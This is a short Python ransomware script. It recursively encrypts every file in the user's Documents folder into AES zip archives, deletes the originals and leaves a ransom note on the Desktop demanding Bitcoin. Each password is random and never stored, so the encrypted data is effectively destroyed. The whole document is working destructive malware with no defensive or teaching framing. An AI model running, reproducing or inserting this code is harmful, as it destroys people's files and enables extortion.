import pyzipper, os, glob
for p in glob.glob(os.path.expanduser("~/Documents/**/*.*"), recursive=True):
    with pyzipper.AESZipFile(p + ".zip", "w", encryption=pyzipper.WZ_AES) as z:
        z.setpassword(os.urandom(16)); z.write(p)
    os.remove(p)
open(os.path.expanduser("~/Desktop/README_RESTORE.txt"), "w").write("Your files are encrypted. Send 0.05 BTC to bc1qxxxx")
